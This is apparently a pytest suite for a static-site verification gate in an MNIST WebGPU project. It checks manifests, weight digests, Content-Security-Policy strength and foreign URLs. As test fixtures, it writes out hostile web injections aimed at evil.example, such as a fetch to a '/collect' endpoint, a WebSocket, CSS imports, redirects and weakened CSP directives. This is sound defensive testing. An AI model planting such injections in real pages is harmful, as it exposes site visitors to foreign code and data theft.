"""verify: broken sites are caught, and dist/ only ever holds a verified site; as a real gate, a
tampered site, one rule at a time, is refused in one line."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import shutil
import struct
import subprocess
import sys

import numpy as np
import pytest
from kits import wasmkit
from kits.projectkit import ROOT
from kits.verifykit import CONFIG, CSP, metrics, problem
from safetensors.numpy import save

from mnist_webgpu.core import config, records
from mnist_webgpu.core.layout import CPU_MODULE, SiteModel
from mnist_webgpu.publish import verify

# the policy templates/base.html sets, as every page carries it


def test_a_complete_site_passes(good):
    verify.verify(*good)


def test_missing_asset_is_named(good):
    cfg, site, models = good
    (site / "assets" / "runtime.1.js").unlink()
    assert "assets/app.1.js: ./runtime.1.js does not exist" in problem(*good)


def test_third_party_script_is_refused(good):
    cfg, site, models = good
    page = site / "index.html"
    page.write_text(page.read_text() + '<script src="https://cdn.example.com/x.js"></script>')
    assert "index.html: loads https://cdn.example.com/x.js from outside the site" in problem(*good)


def test_absolute_paths_are_refused(good):
    cfg, site, models = good
    (site / "404.html").write_text(CSP + '<a href="/index.html">home</a>')
    assert "404.html: absolute path /index.html breaks" in problem(*good)


def test_accuracy_gate(good):
    cfg, site, build = good
    records.write(build.train_outputs("mlp").metrics, metrics(cfg, "mlp", 0.5))
    assert "models.mlp.min_test_accuracy: test accuracy 0.5000 is below the gate 0.9000" in problem(*good)


def test_missing_metrics(good):
    cfg, site, build = good
    build.train_outputs("mlp").metrics.unlink()
    assert "models/mlp/metrics.json: missing" in problem(*good)


def test_a_model_trained_with_other_settings_is_stale(good, tmp_path):
    cfg, site, build = good
    other = config.load(tmp_path / "c.toml")
    (tmp_path / "c.toml").write_text(CONFIG + "lr = 0.01\n")
    changed = config.load(tmp_path / "c.toml")
    assert changed != other
    message = problem(changed, site, build)
    assert "metrics.json: trained with other settings than" in message and "a stale model" in message


def test_a_cpu_module_that_imports_or_lacks_an_export_is_refused(good):
    cfg, site, build = good
    mlp = SiteModel("mlp")
    # net() imported from the page instead of defined: cpu.js provides no imports
    blob = wasmkit.importing("env", "net")
    (site / mlp.file(CPU_MODULE)).write_bytes(blob)
    manifest = records.read(records.Manifest, site / mlp.manifest)
    cpu = dataclasses.replace(manifest.cpu, bytes=len(blob), sha256=hashlib.sha256(blob).hexdigest())
    records.write(site / mlp.manifest, dataclasses.replace(manifest, cpu=cpu))
    message = problem(*good)
    assert f"{mlp.file(CPU_MODULE)}: imports env.net (cpu.js provides none)" in message
    assert "(and 2 more)" in message  # no net() and no arena exported


def test_a_cpu_module_changed_after_compile_is_refused(good):
    cfg, site, build = good
    module = site / SiteModel("mlp").file(CPU_MODULE)
    module.write_bytes(module.read_bytes() + b"\0")
    assert "cpu.wasm: not the CPU module the manifest records" in problem(*good)


def test_a_manifest_compiled_from_other_weights_is_refused(good):
    cfg, site, build = good
    build.train_outputs("mlp").weights.write_bytes(b"retrained since")
    assert "compiled from other weights than" in problem(*good)


def test_a_weight_file_from_another_build_is_refused(good):
    cfg, site, build = good
    weights = site / "models" / "mlp" / "weights.f32.safetensors"
    blob = bytearray(weights.read_bytes())
    blob[-1] ^= 1  # same size, other bytes: a file from another compile
    weights.write_bytes(bytes(blob))
    assert "its SHA-256 is not the one the manifest records" in problem(*good)


def test_weights_disagreeing_with_the_manifest(good):
    cfg, site, models = good
    weights = site / "models" / "mlp" / "weights.f32.safetensors"
    weights.write_bytes(weights.read_bytes()[:-4])
    message = problem(*good)
    assert "bytes, manifest says" in message and "(and 1 more)" in message


def test_weight_bound_by_a_kernel_but_absent(good):
    cfg, site, models = good
    path = site / "models" / "mlp" / "manifest.json"
    data = json.loads(path.read_text())
    data["kernels"][0]["bindings"].append(
        {
            "binding": 2,
            "buffer": "w1",
            "kind": "weight",
            "bytes": 4,
            "access": "read",
            "name": "layers.1.weight",
        }
    )
    path.write_text(json.dumps(data))
    assert "no tensor for weights layers.1.weight" in problem(*good)


def test_publish_to_dist_replaces_the_whole_directory(good, tmp_path):
    _, site, _ = good
    dist = tmp_path / "dist"
    dist.mkdir()
    (dist / "stale.html").write_text("old")
    verify.publish_to_dist(site, dist)
    assert not (dist / "stale.html").exists()
    assert (dist / "index.html").read_text() == (site / "index.html").read_text()
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("dist")) == ["dist"]


def test_references_to_a_missing_page(good):
    cfg, site, models = good
    (site / "models" / "mlp.html").unlink()
    assert "index.html: models/mlp.html does not exist" in problem(*good)


def test_default_form_must_exist(good):
    cfg, site, models = good
    path = site / "models" / "mlp" / "manifest.json"
    data = json.loads(path.read_text())
    data["default_form"] = "int8"
    path.write_text(json.dumps(data))
    assert "default_form 'int8' is not among the forms ['f32']" in problem(*good)


# --- verify as a gate ---------------------------------------------------------------------
# verify as a real gate: a tampered site, one rule at a time, is refused in one line.


def append(site, rel: str, text: str) -> None:
    page = site / rel
    page.write_text(page.read_text() + text)


POLICY = (
    "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; "
    "connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'"
)


@pytest.mark.parametrize(
    ("policy", "reason"),
    [
        (
            POLICY.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
            "script-src allows 'unsafe-inline'",
        ),
        (
            POLICY.replace("script-src 'self'", "script-src 'self' 'unsafe-eval'"),
            "script-src allows 'unsafe-eval'",
        ),
        (
            POLICY.replace("connect-src 'self'", "connect-src 'self' https://api.example.com"),
            "connect-src allows https://api",
        ),
        (POLICY.replace("img-src 'self' data:", "img-src *"), "img-src allows *"),
        (POLICY.replace("default-src 'self'", "default-src *"), "default-src is *, not 'none' or 'self'"),
        (POLICY.replace("; object-src 'none'", ""), "lacks object-src"),
        (POLICY.replace("style-src 'self'", "style-src 'self' data:"), "style-src allows data:"),
    ],
)
def test_a_weakened_csp_is_refused(good, policy, reason):  # noqa: F811
    _, site, _ = good
    page = site / "models" / "mlp.html"
    page.write_text(page.read_text().replace(POLICY, policy))
    assert policy in page.read_text()
    assert f"models/mlp.html: Content-Security-Policy weakened: {reason}" in problem(*good)


def test_a_page_without_the_csp_is_refused(good):  # noqa: F811
    _, site, _ = good
    (site / "extra.html").write_text('<!doctype html><a href="index.html">home</a>')
    assert "extra.html: no Content-Security-Policy <meta>" in problem(*good)


@pytest.mark.parametrize(
    ("markup", "reason"),
    [
        ('<link rel="dns-prefetch" href="//evil.example">', "loads //evil.example from outside the site"),
        ('<link rel="preconnect" href="https://evil.example">', "loads https://evil.example from outside"),
        ('<link rel="prefetch" href="https://evil.example/x.js">', "loads https://evil.example/x.js from"),
        ('<img srcset="favicon.svg 1x, https://evil.example/a.png 2x">', "loads https://evil.example/a.png"),
        ('<video poster="https://evil.example/p.jpg"></video>', "loads https://evil.example/p.jpg"),
        ('<object data="https://evil.example/o.swf"></object>', "loads https://evil.example/o.swf"),
        ('<embed src="https://evil.example/e">', "loads https://evil.example/e"),
        (
            '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
            "<meta http-equiv=refresh> sends the reader to https://evil",
        ),
        ("<style>@import 'https://evil.example/s.css';</style>", "loads https://evil.example/s.css"),
        ('<p style="background: url(https://evil.example/b.png)">', "loads https://evil.example/b.png"),
        (
            '<div data-src="https://evil.example/d"></div>',
            "<div data-src> names https://evil.example/d on another",
        ),
        ("<script>fetch('/x')</script>", "has an inline <script> no hash in its CSP allows (\"fetch('/x')\""),
        ('<button onclick="go()">x</button>', "<button> has an inline event handler onclick="),
        ('<base href="https://evil.example/">', "has a <base> element"),
    ],
)
def test_foreign_urls_anywhere_in_a_page_are_refused(good, markup, reason):  # noqa: F811
    _, site, _ = good
    append(site, "index.html", markup)
    assert f"index.html: {reason}" in problem(*good)


def test_links_a_person_follows_may_leave_and_json_data_blocks_are_inert(good):  # noqa: F811
    _, site, _ = good
    append(site, "index.html", '<a href="https://example.org/paper">paper</a>')
    append(site, "index.html", '<script type="application/json" id="d">{"u": "https://x.example"}</script>')
    append(site, "index.html", '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')
    verify.verify(*good)


@pytest.mark.parametrize(
    ("rel", "text", "reason"),
    [
        (
            "assets/style.1.css",
            '@import url("https://evil.example/x.css");',
            "loads https://evil.example/x.css",
        ),
        ("assets/style.1.css", "@import '//evil.example/y.css';", "loads //evil.example/y.css"),
        (
            "assets/runtime.1.js",
            'fetch("https://evil.example/collect");',
            "loads https://evil.example/collect",
        ),
        ("assets/runtime.1.js", "new WebSocket(`wss://evil.example/s`);", "loads wss://evil.example/s"),
    ],
)
def test_foreign_urls_in_styles_and_scripts_are_refused(good, rel, text, reason):  # noqa: F811
    _, site, _ = good
    append(site, rel, "\n" + text + "\n")
    assert f"{rel}: {reason}" in problem(*good)


def _add_form(site, form: str, tensors: dict[str, np.ndarray], shape: tuple[int, ...] = (4,)) -> None:
    """A second weight form, recorded in the manifest with its true size and digest."""
    blob = save(tensors)
    path = site / "models" / "mlp" / f"weights.{form}.safetensors"
    path.write_bytes(blob)
    manifest_path = site / "models" / "mlp" / "manifest.json"
    m = records.read(records.Manifest, manifest_path)
    record = dataclasses.replace(
        m.forms[0], form=form, file=path.name, bytes=len(blob), sha256=hashlib.sha256(blob).hexdigest()
    )
    weights = {"layers.0.weight": records.WeightSpec(shape=list(shape), dtype="float32")}
    records.write(manifest_path, dataclasses.replace(m, forms=[*m.forms, record], weights=weights))


@pytest.mark.parametrize(
    ("tensors", "reason"),
    [
        (
            {"layers.0.weight": np.array([1, np.nan, 0, 0], np.float16)},
            "layers.0.weight holds 1 non-finite value",
        ),
        (
            {"layers.0.weight": np.array([np.inf, 0, 0, -np.inf], np.float16)},
            "layers.0.weight holds 2 non-finite value(s)",
        ),
    ],
)
def test_non_finite_weights_in_a_non_default_form_are_refused(good, tensors, reason):  # noqa: F811
    _, site, _ = good
    _add_form(site, "f16", tensors)
    assert "weights.f16.safetensors: " + reason in problem(*good)


def manifest_problems(site) -> str:
    """Every problem check_manifest finds (verify's line shows the first and a count)."""
    path = site / "models" / "mlp" / "manifest.json"
    return " | ".join(verify.check_manifest(path, records.read(records.Manifest, path)))


@pytest.mark.parametrize("scale", [np.nan, np.inf, 3e38])
def test_an_int8_form_with_a_poisoned_scale_is_refused(good, scale):  # noqa: F811
    _, site, _ = good
    q = np.array([[1, 2], [127, -127]], np.int8)
    _add_form(
        site,
        "int8",
        {"layers.0.weight": q, "layers.0.weight.scale": np.array([1, scale], np.float32)},
        (2, 2),
    )
    assert "weights.int8.safetensors: layers.0.weight holds 2 non-finite value(s)" in manifest_problems(site)
    problem(*good)


def test_an_int8_weight_without_its_scale_is_refused(good):  # noqa: F811
    _, site, _ = good
    _add_form(site, "int8", {"layers.0.weight": np.ones((2, 2), np.int8)}, (2, 2))
    assert (
        "layers.0.weight is int8 without a float32 layers.0.weight.scale of shape [2]"
        in manifest_problems(site)
    )


@pytest.mark.parametrize(
    ("damage", "reason"),
    [
        (
            lambda site: (site / "models/mlp/manifest.json").write_text("{not json"),
            "not a readable JSON file",
        ),
        (
            lambda site: (site / "index.html").write_bytes(b"<!doctype html>\xff\xfe"),
            "index.html: not UTF-8 text",
        ),
        (lambda site: (site / "assets/app.1.js").write_bytes(b"\xc3("), "assets/app.1.js: not UTF-8 text"),
    ],
)
def test_malformed_files_are_one_line(good, damage, reason):  # noqa: F811
    _, site, _ = good
    damage(site)
    assert reason in problem(*good)


def test_a_safetensors_header_that_is_an_array_is_one_line(good):  # noqa: F811
    _, site, _ = good
    header = json.dumps([1, 2]).encode()
    blob = struct.pack("<Q", len(header)) + header
    _add_form(site, "f16", {"layers.0.weight": np.zeros(4, np.float16)})
    (site / "models/mlp/weights.f16.safetensors").write_bytes(blob)
    m = records.read(records.Manifest, site / "models/mlp/manifest.json")
    fixed = [
        dataclasses.replace(f, bytes=len(blob), sha256=hashlib.sha256(blob).hexdigest())
        if f.form == "f16"
        else f
        for f in m.forms
    ]
    records.write(site / "models/mlp/manifest.json", dataclasses.replace(m, forms=fixed))
    assert "weights.f16.safetensors: malformed safetensors (header is a JSON list, not an object)" in problem(
        *good
    )


def test_an_inline_script_is_allowed_exactly_by_its_hash_in_the_pages_csp(good):  # noqa: F811
    """As the 404 page does: it must find the site root before it can load any file."""
    from mnist_webgpu.publish import checks

    _, site, _ = good
    script = "\n  document.title = 'lost';\n"
    allowed = POLICY.replace("script-src 'self'", f"script-src 'self' {checks.csp_hash(script)}")
    page = site / "404.html"
    page.write_text(page.read_text().replace(POLICY, allowed) + f"<script>{script}</script>")
    verify.verify(*good)
    page.write_text(page.read_text().replace("'lost'", "'found'"))  # one character off: not allowed
    assert "404.html: has an inline <script> no hash in its CSP allows" in problem(*good)


# --- what the page loads: the models JSON, each manifest's numbers, the web app manifest, sw.js ---


def _models_json(site, **entry) -> None:
    page = site / "index.html"
    old = '"manifest": "models/mlp/manifest.json"'
    assert old in page.read_text()
    page.write_text(page.read_text().replace(old, f'"manifest": {json.dumps(entry["manifest"])}'))


def _manifest(site, change) -> None:
    path = site / "models" / "mlp" / "manifest.json"
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))  # NaN as the literal a hand edit (or json.dumps) writes


def _another_models_manifest(site) -> None:
    other = site / "models" / "cnn"
    other.mkdir()
    data = json.loads((site / "models/mlp/manifest.json").read_text())
    (other / "manifest.json").write_text(json.dumps({**data, "name": "cnn"}))
    (other / "weights.f32.safetensors").write_bytes(
        (site / "models/mlp/weights.f32.safetensors").read_bytes()
    )
    _models_json(site, manifest="models/cnn/manifest.json")


def _replace(rel: str, old: str, new: str):
    def damage(site) -> None:
        path = site / rel
        assert old in path.read_text()
        path.write_text(path.read_text().replace(old, new))

    return damage


TAMPERED = [
    (
        lambda site: _models_json(site, manifest="models/mlp/gone.json"),
        "index.html: <script id=models> models[0].manifest: models/mlp/gone.json does not exist",
    ),
    (
        lambda site: _models_json(site, manifest="https://evil.example/manifest.json"),
        "index.html: <script id=models> models[0].manifest: loads https://evil.example/manifest.json",
    ),
    (
        _another_models_manifest,
        "models/cnn/manifest.json: name: 'cnn', but index.html loads it as model 'mlp'",
    ),
    (
        lambda site: _manifest(
            site, lambda m: m.update(decline={"temperature": float("nan"), "threshold": 0.5})
        ),
        "models/mlp/manifest.json: decline.temperature: expected a finite number > 0, got NaN",
    ),
    (
        lambda site: _manifest(site, lambda m: m.update(decline={"temperature": 0, "threshold": 0.5})),
        "models/mlp/manifest.json: decline.temperature: expected a finite number > 0, got 0",
    ),
    (
        lambda site: _manifest(site, lambda m: m.update(decline={"temperature": -2, "threshold": 0.5})),
        "models/mlp/manifest.json: decline.temperature: expected a finite number > 0, got -2",
    ),
    (
        lambda site: _manifest(site, lambda m: m.update(decline={"temperature": 1, "threshold": -1})),
        "models/mlp/manifest.json: decline.threshold: expected a fraction between 0 and 1, got -1",
    ),
    (
        lambda site: _manifest(site, lambda m: m.update(decline={"temperature": 1, "threshold": 1.5})),
        "models/mlp/manifest.json: decline.threshold: expected a fraction between 0 and 1, got 1.5",
    ),
    (
        lambda site: _manifest(site, lambda m: m["kernels"][0].update(dispatch=[4, 0, 1])),
        "models/mlp/manifest.json: kernels[0].dispatch[1]: expected a finite number > 0, got 0",
    ),
    (
        _replace("app.webmanifest", '"src": "favicon.svg"', '"src": "https://evil.example/i.png"'),
        "app.webmanifest: icons[0].src: loads https://evil.example/i.png from outside the site",
    ),
    (
        _replace("app.webmanifest", '"src": "favicon.svg"', '"src": "icon-512.png"'),
        "app.webmanifest: icons[0].src: icon-512.png does not exist",
    ),
    (
        _replace("sw.js", '"app.webmanifest", ', '"app.webmanifest", "assets/gone.1.js", '),
        "sw.js: PRECACHE[3]: assets/gone.1.js does not exist",
    ),
    (lambda site: (site / "sw.js").unlink(), "sw.js: missing"),
    (
        _replace("index.html", '"default": "mlp"', '"default": "cnn"'),
        "index.html: <script id=models> default: 'cnn' is not among ['mlp']",
    ),
]


@pytest.mark.parametrize(("damage", "reason"), TAMPERED)
def test_every_file_the_page_loads_is_checked(good, damage, reason):  # noqa: F811
    _, site, _ = good
    damage(site)
    assert reason in problem(*good)


@pytest.mark.slow  # spawns the verify stage
def test_the_verify_stage_refuses_a_tampered_site_and_dist_keeps_the_last_verified_one(good, tmp_path):  # noqa: F811
    cfg, site, _ = good
    dist = tmp_path / "dist"
    verify.publish_to_dist(site, dist)
    before = {p.relative_to(dist): p.read_bytes() for p in dist.rglob("*") if p.is_file()}
    staged = tmp_path / "build" / "site"  # the layout `python -m mnist_webgpu verify` reads, from its cwd
    shutil.copytree(site, staged)
    _manifest(staged, lambda m: m.update(decline={"temperature": 0, "threshold": 0.5}))
    env = {**os.environ, config.CONFIG_ENV: str(cfg.path), "PYTHONPATH": str(ROOT / "src")}
    result = subprocess.run(
        [sys.executable, "-m", "mnist_webgpu", "verify"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert "models/mlp/manifest.json: decline.temperature: expected a finite number > 0, got 0" in line
    assert {p.relative_to(dist): p.read_bytes() for p in dist.rglob("*") if p.is_file()} == before
